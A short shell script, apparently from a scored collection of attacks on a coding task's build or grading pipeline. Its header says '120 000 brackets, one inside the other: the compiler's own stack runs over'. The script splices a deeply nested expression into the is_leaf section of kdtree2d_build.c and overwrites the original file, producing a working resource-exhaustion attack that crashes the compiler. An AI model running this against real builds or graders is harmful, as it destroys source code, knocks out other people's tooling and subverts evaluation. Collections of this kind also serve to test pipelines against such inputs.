#!/bin/sh
# attack: 120 000 brackets, one inside the other: the compiler's own stack runs over
# score: 85
# named: compiler|nesting|signal|memory
{
    sed '/TASK is_leaf/q' kdtree2d_build.c
    awk 'BEGIN { printf "    return "; for (i = 0; i < 120000; i++) printf "("
        printf "1"; for (i = 0; i < 120000; i++) printf ")"; print ";" }'
    sed -n '/END is_leaf/,$p' kdtree2d_build.c
} >nested.c
mv nested.c kdtree2d_build.c
